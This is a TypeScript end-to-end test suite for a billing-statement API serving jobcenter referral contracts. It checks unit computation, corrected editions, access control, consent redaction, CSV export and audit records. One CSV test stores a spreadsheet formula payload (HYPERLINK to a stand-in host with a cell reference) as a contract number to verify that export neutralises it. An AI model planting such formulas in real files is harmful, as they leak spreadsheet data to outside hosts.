import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import { DataSource } from 'typeorm';
import { buildReferralWorld, type ReferralWorld } from '../factories/referrals';
import { expectProblem } from '../support/problem';
import { createTestApp } from '../support/test-app';
import { httpOf, type TestHttp } from '../support/http';
import {
  backdateSubmission,
  berlinMonthStart,
  nextMonth,
  submitInitialReport,
  walkedReferral,
} from './billing-world';

const API = '/api/v1';

/** RFC 4180 with every field quoted, as the statements are written: rows of fields. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    if (text[i] !== '"') throw new Error(`unquoted field at ${i}`);
    let field = '';
    i += 1;
    for (;;) {
      if (text[i] === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (text[i] === '"') {
        i += 1;
        break;
      } else {
        field += text[i];
        i += 1;
      }
    }
    row.push(field);
    if (text[i] === ',') {
      i += 1;
    } else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else {
      throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
    }
  }
  return rows;
}
const ACTIVE = new Set(['accepted', 'in_progress', 'on_hold']);
const PRICES = { active_case_month: 45_000, initial_assessment: 12_050 } as const;
type Unit = keyof typeof PRICES;
const MONTHS = ['2025-01', '2025-02', '2025-03'];

interface Line {
  referralId: string;
  unit: Unit;
  unitPriceCents: number;
  amount: string;
}

/**
 * Billing statements (issue 22, ADR 0023) over HTTP: a world of referrals moving through their
 * states across three past months, and each month's statement compared with the units computed
 * here, independently, from what the jobcenter's case manager sees of the world (history and
 * report list).
 */
describe('billing statements', () => {
  let app: NestFastifyApplication;
  let http: TestHttp;
  let world: ReferralWorld;
  const referrals: string[] = [];
  let declined: string;
  let unreachable: string;

  const contractPath = () => `${API}/contracts/${world.contract.id}`;
  const statementsPath = () => `${contractPath()}/statements`;

  beforeAll(async () => {
    app = await createTestApp();
    http = httpOf(app);
    world = await buildReferralWorld(app);
    const read = await http.get(world.leadA, contractPath()).expect(200);
    await http
      .patch(
        world.leadA,
        contractPath(),
        {
          billingTerms: [
            { unit: 'initial_assessment', priceCents: PRICES.initial_assessment },
            { unit: 'active_case_month', priceCents: PRICES.active_case_month },
          ],
        },
        { ifMatch: read.headers.etag },
      )
      .expect(200);

    // R1: active from 10 January, an initial report on 20 January, completed 5 March.
    referrals.push(
      await walkedReferral(
        app,
        world,
        [
          { action: 'send', at: '2025-01-08T10:00:00Z' },
          { action: 'accept', at: '2025-01-10T09:00:00Z' },
          { action: 'start', at: '2025-01-15T09:00:00Z' },
          { action: 'complete', at: '2025-03-05T09:00:00Z' },
        ],
        async (id, step) => {
          if (step.action !== 'start') return;
          await backdateSubmission(
            app,
            await submitInitialReport(app, world, id),
            '2025-01-20T10:00:00Z',
          );
        },
      ),
    );
    // R2: rejected: never active.
    referrals.push(
      await walkedReferral(app, world, [
        { action: 'send', at: '2025-01-05T10:00:00Z' },
        { action: 'reject', at: '2025-01-06T10:00:00Z' },
      ]),
    );
    // R3: accepted at 23:30 on 31 January in Berlin (22:30 UTC), an initial report on 3 February
    // and its correction on 10 March (not a second assessment), ended from on hold at midnight
    // of 1 March in Berlin: active in January and February, not in March.
    referrals.push(
      await walkedReferral(
        app,
        world,
        [
          { action: 'send', at: '2025-01-31T20:00:00Z' },
          { action: 'accept', at: '2025-01-31T22:30:00Z' },
          { action: 'start', at: '2025-02-02T09:00:00Z' },
          { action: 'pause', at: '2025-02-10T09:00:00Z', body: { reason: 'hospital_stay' } },
          { action: 'end', at: '2025-02-28T23:00:00Z' },
        ],
        async (id, step) => {
          if (step.action !== 'start') return;
          const first = await submitInitialReport(app, world, id);
          await backdateSubmission(app, first, '2025-02-03T10:00:00Z');
          await backdateSubmission(
            app,
            await submitInitialReport(app, world, id, first),
            '2025-03-10T10:00:00Z',
          );
        },
      ),
    );
    // R4: cancelled while requested: never active.
    referrals.push(
      await walkedReferral(app, world, [
        { action: 'send', at: '2025-02-20T10:00:00Z' },
        { action: 'cancel', at: '2025-02-25T10:00:00Z' },
      ]),
    );
    // R5: accepted one second before midnight of 31 March (CEST), still in progress.
    referrals.push(
      await walkedReferral(app, world, [
        { action: 'send', at: '2025-03-30T10:00:00Z' },
        { action: 'accept', at: '2025-03-31T21:59:59Z' },
        { action: 'start', at: '2025-04-01T09:00:00Z' },
      ]),
    );
    // R6, R7: both worked in February and ended, one after seven home visits and the client's
    // refusal (participation content, unreleased), the other unreachable without any contact.
    declined = await walkedReferral(
      app,
      world,
      [
        { action: 'send', at: '2025-02-01T08:00:00Z' },
        { action: 'accept', at: '2025-02-01T09:00:00Z' },
        { action: 'start', at: '2025-02-03T09:00:00Z' },
        { action: 'end', at: '2025-02-20T09:00:00Z', body: { reason: 'client_declined' } },
      ],
      async (id, step) => {
        if (step.action === 'start') await homeVisits(id, 7);
      },
    );
    unreachable = await walkedReferral(app, world, [
      { action: 'send', at: '2025-02-01T08:00:00Z' },
      { action: 'accept', at: '2025-02-01T09:00:00Z' },
      { action: 'end', at: '2025-02-21T09:00:00Z' },
    ]);
    referrals.push(declined, unreachable);
  });
  afterAll(async () => {
    await app.close();
  });

  async function homeVisits(referralId: string, n: number): Promise<void> {
    for (let i = 0; i < n; i++) {
      await http
        .post(world.workerP1, `${API}/referrals/${referralId}/activities`, {
          kind: 'home_visit',
          occurredAt: new Date(Date.now() - (i + 1) * 60_000).toISOString(),
          reached: true,
          note: 'Hausbesuch, Klientin lehnt weitere Hilfe ab',
        })
        .expect(201);
    }
  }

  /**
   * The lines of `month`, computed from what the jobcenter's case manager reads: each
   * referral's history (a stay in a state lasts until the next row) and its report list.
   */
  async function expectedLines(month: string): Promise<Line[]> {
    const start = berlinMonthStart(month);
    const end = berlinMonthStart(nextMonth(month));
    const lines: Line[] = [];
    for (const id of referrals) {
      const history = await http
        .get(world.caseworkerA, `${API}/referrals/${id}/history`)
        .expect(200);
      const items = history.body.items as { toState: string; occurredAt: string }[];
      const active = items.some((item, i) => {
        const from = Date.parse(item.occurredAt);
        const until = i + 1 < items.length ? Date.parse(items[i + 1].occurredAt) : Infinity;
        return ACTIVE.has(item.toState) && from < end && until > start;
      });
      if (active) lines.push(line(id, 'active_case_month'));
      const reports = await http
        .get(world.caseworkerA, `${API}/referrals/${id}/reports`)
        .expect(200);
      const initial = (reports.body.items as { kind: string; submittedAt: string }[])
        .filter((r) => r.kind === 'initial')
        .map((r) => Date.parse(r.submittedAt));
      const first = initial.length > 0 ? Math.min(...initial) : null;
      if (first !== null && first >= start && first < end) {
        lines.push(line(id, 'initial_assessment'));
      }
    }
    return lines.sort(
      (a, b) => a.unit.localeCompare(b.unit) || a.referralId.localeCompare(b.referralId),
    );
  }

  function line(referralId: string, unit: Unit): Line {
    const cents = PRICES[unit];
    return {
      referralId,
      unit,
      unitPriceCents: cents,
      amount: `${Math.floor(cents / 100)}.${String(cents % 100).padStart(2, '0')}`,
    };
  }

  const euros = (cents: number) =>
    `${Math.floor(cents / 100)}.${String(cents % 100).padStart(2, '0')}`;

  it("equals, month by month, the units computed from the world's events", async () => {
    const byMonth: Record<string, number> = {};
    for (const month of MONTHS) {
      const expected = await expectedLines(month);
      const res = await http.post(world.leadP1, statementsPath(), { month }).expect(201);
      expect(res.headers.location).toBe(`${API}/statements/${res.body.id}`);
      const sorted = [...(res.body.lines as Line[])].sort(
        (a, b) => a.unit.localeCompare(b.unit) || a.referralId.localeCompare(b.referralId),
      );
      expect(sorted).toEqual(expected);
      const total = expected.reduce((sum, l) => sum + l.unitPriceCents, 0);
      expect(res.body).toMatchObject({
        month,
        edition: 1,
        correctionReason: null,
        lineCount: expected.length,
        totalCents: total,
        total: euros(total),
        contractId: world.contract.id,
      });
      byMonth[month] = expected.length;
    }
    // The scenario's edges: R3 in January (accepted 23:30 on the 31st) and not in March (ended
    // at midnight); its corrected initial report billed once, in February; R5 in March.
    const [r1, , r3, , r5] = referrals;
    const units = async (month: string) => {
      const list = await http.get(world.leadA, statementsPath(), { query: { month } }).expect(200);
      const one = await http
        .get(world.leadA, `${API}/statements/${list.body.items[0].id}`)
        .expect(200);
      return (one.body.lines as Line[]).map((l) => `${l.referralId}:${l.unit}`);
    };
    expect(await units('2025-01')).toEqual(
      expect.arrayContaining([
        `${r1}:active_case_month`,
        `${r1}:initial_assessment`,
        `${r3}:active_case_month`,
      ]),
    );
    expect(await units('2025-02')).toEqual(expect.arrayContaining([`${r3}:initial_assessment`]));
    const march = await units('2025-03');
    expect(march).toContain(`${r5}:active_case_month`);
    expect(march.filter((u) => u.startsWith(r3))).toEqual([]);
    expect(byMonth).toEqual({ '2025-01': 3, '2025-02': 5, '2025-03': 2 });
  });

  it('corrects by a new numbered edition with a coded reason; editions never change', async () => {
    const month = '2025-02';
    const list = await http.get(world.leadP1, statementsPath(), { query: { month } }).expect(200);
    const first = await http
      .get(world.leadA, `${API}/statements/${list.body.items[0].id}`)
      .expect(200);

    expectProblem(
      await http.post(world.leadP1, statementsPath(), { month }),
      400,
      'validation-error',
    );
    const dropped = first.body.lines[0] as Line;
    const second = await http
      .post(world.leadP1, statementsPath(), {
        month,
        correctionReason: 'disputed_by_jobcenter',
        exclude: [{ referralId: dropped.referralId, unit: dropped.unit }],
      })
      .expect(201);
    expect(second.body).toMatchObject({
      edition: 2,
      correctionReason: 'disputed_by_jobcenter',
      lineCount: first.body.lineCount - 1,
      totalCents: first.body.totalCents - dropped.unitPriceCents,
    });
    expect(second.body.lines).not.toContainEqual(dropped);

    // The jobcenter's lead sees both editions; the first is as it was.
    const editions = await http
      .get(world.leadA, statementsPath(), { query: { month } })
      .expect(200);
    expect(editions.body.items.map((e: { edition: number }) => e.edition)).toEqual([1, 2]);
    const again = await http.get(world.leadA, `${API}/statements/${first.body.id}`).expect(200);
    expect(again.body).toEqual(first.body);
    await expect(
      app
        .get(DataSource)
        .query('UPDATE billing_statements SET total_cents = 0 WHERE id = $1', [first.body.id]),
    ).rejects.toThrow(/immutable/);

    // An excluded line must be a billable one; a first edition corrects nothing.
    expectProblem(
      await http.post(world.leadP1, statementsPath(), {
        month,
        correctionReason: 'other',
        exclude: [{ referralId: referrals[1], unit: 'active_case_month' }],
      }),
      400,
      'validation-error',
    );
    expectProblem(
      await http.post(world.leadP1, statementsPath(), {
        month: '2024-12',
        correctionReason: 'other',
      }),
      400,
      'validation-error',
    );
  });

  it('bills neither a month that has not ended nor one outside the contract, nor without terms', async () => {
    const now = new Date();
    const current = `${now.getUTCFullYear()}-${String(now.getUTCMonth() + 1).padStart(2, '0')}`;
    expectProblem(
      await http.post(world.leadP1, statementsPath(), { month: nextMonth(current) }),
      422,
      'month-not-billable',
    );
    expectProblem(
      await http.post(world.leadP1, statementsPath(), { month: '2019-12' }),
      422,
      'month-not-billable',
    );
    expectProblem(
      await http.post(world.leadP1, statementsPath(), { month: '2025-13' }),
      400,
      'validation-error',
    );
    const other = await http
      .post(world.leadA, `${API}/providers/${world.providerP1}/contracts`, {
        number: `B-${Date.now()}`,
        validFrom: '2019-01-01',
        services: ['outreach_home_visits'],
        capacity: 5,
      })
      .expect(201);
    expect(other.body.billingTerms).toEqual([]);
    expectProblem(
      await http.post(world.leadP1, `${API}/contracts/${other.body.id}/statements`, {
        month: '2025-01',
      }),
      409,
      'no-billing-terms',
    );
  });

  it('reads for the leads of both parties only', async () => {
    const list = await http
      .get(world.leadP1, statementsPath(), { query: { month: '2025-01' } })
      .expect(200);
    const id = list.body.items[0].id as string;
    await http.get(world.leadA, `${API}/statements/${id}`).expect(200);
    expectProblem(await http.get(world.leadP2, `${API}/statements/${id}`), 404, 'not-found');
    expectProblem(await http.get(world.caseworkerA, `${API}/statements/${id}`), 403, 'forbidden');
    expectProblem(await http.get(world.workerP1, `${API}/statements/${id}`), 403, 'forbidden');
    expectProblem(
      await http.post(world.leadA, statementsPath(), { month: '2025-01' }),
      403,
      'forbidden',
    );
    expectProblem(
      await http.post(world.leadP2, statementsPath(), { month: '2025-01' }),
      404,
      'not-found',
    );
  });

  it('never reveals what consent withholds: contacts and end reasons leave no trace', async () => {
    // The jobcenter sees neither the home visits nor the reason of the end (no release).
    const visits = await http
      .get(world.caseworkerA, `${API}/referrals/${declined}/activities`)
      .expect(200);
    expect(JSON.stringify(visits.body)).not.toContain('home_visit');
    const month = '2025-02';
    const before = await http.get(world.leadA, statementsPath(), { query: { month } }).expect(200);
    // The first edition: the corrections leave lines out.
    const edition = await http
      .get(world.leadA, `${API}/statements/${before.body.items[0].id}`)
      .expect(200);
    const linesOf = (body: { lines: Line[] }, id: string) =>
      body.lines
        .filter((l) => l.referralId === id)
        .map((l) => ({ unit: l.unit, unitPriceCents: l.unitPriceCents, amount: l.amount }));
    // Seven visits and a refusal bill exactly what no contact and unreachability bill.
    expect(linesOf(edition.body, declined)).toEqual(linesOf(edition.body, unreachable));
    expect(linesOf(edition.body, declined)).toEqual([
      { unit: 'active_case_month', unitPriceCents: 45_000, amount: '450.00' },
    ]);
    for (const l of edition.body.lines as Line[]) {
      expect(Object.keys(l).sort()).toEqual(['amount', 'referralId', 'unit', 'unitPriceCents']);
    }
    // More visits to a case in progress change nothing: a new edition bills the same lines.
    const march = await http
      .get(world.leadA, statementsPath(), { query: { month: '2025-03' } })
      .expect(200);
    const marchBefore = await http
      .get(world.leadA, `${API}/statements/${march.body.items[march.body.items.length - 1].id}`)
      .expect(200);
    await homeVisits(referrals[4], 4);
    const next = await http
      .post(world.leadP1, statementsPath(), { month: '2025-03', correctionReason: 'other' })
      .expect(201);
    expect(next.body.lines).toEqual(marchBefore.body.lines);
    expect(next.body.totalCents).toBe(marchBefore.body.totalCents);
    const csv = await http.get(world.leadA, `${API}/statements/${next.body.id}`, {
      headers: { Accept: 'text/csv' },
    });
    for (const bytes of [JSON.stringify(edition.body), JSON.stringify(next.body), csv.text]) {
      for (const secret of [
        'client_declined',
        'client_unreachable',
        'home_visit',
        'participation',
        'Hausbesuch',
        world.client.id,
      ]) {
        expect(bytes).not.toContain(secret);
      }
    }
  });

  it('writes CSV with exact euros, and neutralises cells a spreadsheet would run', async () => {
    const evil = `=HYPERLINK("http://x.test/?"&A1;"Rechnung")-${Date.now()}`;
    const contract = await http
      .post(world.leadA, `${API}/providers/${world.providerP1}/contracts`, {
        number: evil,
        validFrom: '2019-01-01',
        services: ['outreach_home_visits'],
        capacity: 5,
        billingTerms: [{ unit: 'active_case_month', priceCents: 1 }],
      })
      .expect(201);
    const created = await http
      .post(world.leadP1, `${API}/contracts/${contract.body.id}/statements`, { month: '2025-01' })
      .expect(201);
    const csv = await http
      .get(world.leadA, `${API}/statements/${created.body.id}`, { headers: { Accept: 'text/csv' } })
      .expect(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    const rows = parse(csv.text);
    expect(rows[0]).toEqual([
      'contract',
      'month',
      'edition',
      'correctionReason',
      'referralId',
      'unit',
      'amountEur',
    ]);
    for (const row of rows.slice(1)) {
      expect(row[0]).toBe(`'${evil}`);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rows[rows.length - 1].slice(4)).toEqual(['', 'total', '0.00']);

    const list = await http
      .get(world.leadA, statementsPath(), { query: { month: '2025-01' } })
      .expect(200);
    const january = await http
      .get(world.leadA, `${API}/statements/${list.body.items[0].id}`, {
        headers: { Accept: 'text/csv' },
      })
      .expect(200);
    const body = parse(january.text);
    const lines = body.slice(1, -1);
    const cents = lines.reduce((sum, r) => sum + Number(r[6].replace('.', '')), 0);
    expect(body[body.length - 1][6]).toBe(euros(cents));
    expect(cents).toBe(list.body.items[0].totalCents);
  });

  it("keeps the contract's terms under optimistic concurrency, audited, for its jobcenter's lead", async () => {
    const read = await http.get(world.leadA, contractPath()).expect(200);
    expect(read.body.billingTerms).toEqual([
      { unit: 'active_case_month', priceCents: PRICES.active_case_month },
      { unit: 'initial_assessment', priceCents: PRICES.initial_assessment },
    ]);
    const change = (body: object, ifMatch: string) =>
      http.patch(world.leadA, contractPath(), body, { ifMatch });
    expectProblem(
      await change(
        { billingTerms: [{ unit: 'active_case_month', priceCents: 1.5 }] },
        read.headers.etag,
      ),
      400,
      'validation-error',
    );
    expectProblem(
      await change(
        { billingTerms: [{ unit: 'active_case_month', priceCents: -1 }] },
        read.headers.etag,
      ),
      400,
      'validation-error',
    );
    expectProblem(
      await change({ billingTerms: [{ unit: 'home_visit', priceCents: 100 }] }, read.headers.etag),
      400,
      'validation-error',
    );
    expectProblem(
      await change(
        {
          billingTerms: [
            { unit: 'active_case_month', priceCents: 1 },
            { unit: 'active_case_month', priceCents: 2 },
          ],
        },
        read.headers.etag,
      ),
      400,
      'validation-error',
    );
    expectProblem(
      await http.patch(
        world.leadP1,
        contractPath(),
        { billingTerms: [] },
        { ifMatch: read.headers.etag },
      ),
      403,
      'forbidden',
    );
    const changed = await change(
      { billingTerms: read.body.billingTerms },
      read.headers.etag,
    ).expect(200);
    expect(changed.headers.etag).not.toBe(read.headers.etag);
    expectProblem(
      await change({ billingTerms: [] }, read.headers.etag),
      412,
      'precondition-failed',
    );
    const [audit] = await app.get(DataSource).query<{ details: Record<string, unknown> }[]>(
      `SELECT details FROM audit_events WHERE action = 'contract.update' AND resource_id = $1
        ORDER BY occurred_at DESC LIMIT 1`,
      [world.contract.id],
    );
    expect(audit.details).toMatchObject({
      fields: ['billingTerms'],
      billingTerms: ['active_case_month:45000', 'initial_assessment:12050'],
    });
    const [created] = await app.get(DataSource).query<{ n: number }[]>(
      `SELECT count(*)::int AS n FROM audit_events WHERE action = 'billing_statement.create'
        AND organisation_id = $1`,
      [world.providerP1],
    );
    expect(created.n).toBeGreaterThanOrEqual(3);
  });
  it('keeps issued lines when the client is erased; a later edition no longer finds the referral', async () => {
    const r1 = referrals[0];
    const referral = await http.get(world.caseworkerA, `${API}/referrals/${r1}`).expect(200);
    const clientId = (referral.body.client?.id ?? referral.body.clientId) as string;
    const month = '2025-01';
    const before = await http.get(world.leadA, statementsPath(), { query: { month } }).expect(200);
    const issued = await http
      .get(world.leadA, `${API}/statements/${before.body.items[0].id}`)
      .expect(200);
    expect((issued.body.lines as Line[]).some((l) => l.referralId === r1)).toBe(true);

    await http
      .post(world.auditorA, `${API}/clients/${clientId}/erasure`, { reason: 'consent_withdrawn' })
      .expect(200);
    await http.get(world.caseworkerA, `${API}/referrals/${r1}`).expect(404);

    // The issued edition is a record of the accounts: unchanged, its referral id now names nothing.
    const kept = await http.get(world.leadA, `${API}/statements/${issued.body.id}`).expect(200);
    expect(kept.body).toEqual(issued.body);
    const next = await http
      .post(world.leadP1, statementsPath(), { month, correctionReason: 'other' })
      .expect(201);
    expect((next.body.lines as Line[]).some((l) => l.referralId === r1)).toBe(false);
    expect(next.body.lineCount).toBe(issued.body.lineCount - 2);
  });
});
